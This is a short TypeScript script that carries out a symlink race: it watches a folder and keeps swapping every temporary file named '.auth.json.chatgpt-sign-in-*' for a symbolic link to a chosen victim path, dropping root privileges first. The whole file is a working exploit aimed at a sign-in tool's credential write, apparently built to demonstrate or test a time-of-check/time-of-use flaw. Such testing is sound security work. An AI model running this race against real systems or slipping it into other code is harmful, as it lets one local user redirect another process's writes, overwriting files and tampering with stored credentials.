// A process of the owner of a folder that puts a symbolic link to the victim in the place of every temporary file that
// appears there, again and again, until it is killed: `swapForever.ts <folder> <victim>`.
import { readdirSync, renameSync, symlinkSync } from "node:fs";
import { join } from "node:path";

const [folder = "", victim = ""] = process.argv.slice(2);
if (process.getuid?.() === 0) {
  process.setgid?.(65534);
  process.setuid?.(65534);
}
const spare = () => {
  const link = join(folder, `spare${Math.random()}`);
  symlinkSync(victim, link);
  return link;
};
let ready = spare();
process.stdout.write("swapping\n");
for (;;) {
  for (const name of readdirSync(folder)) {
    if (!name.startsWith(".auth.json.chatgpt-sign-in-")) continue;
    try {
      renameSync(ready, join(folder, name));
      ready = spare();
    } catch {
      // It was faster.
    }
  }
}
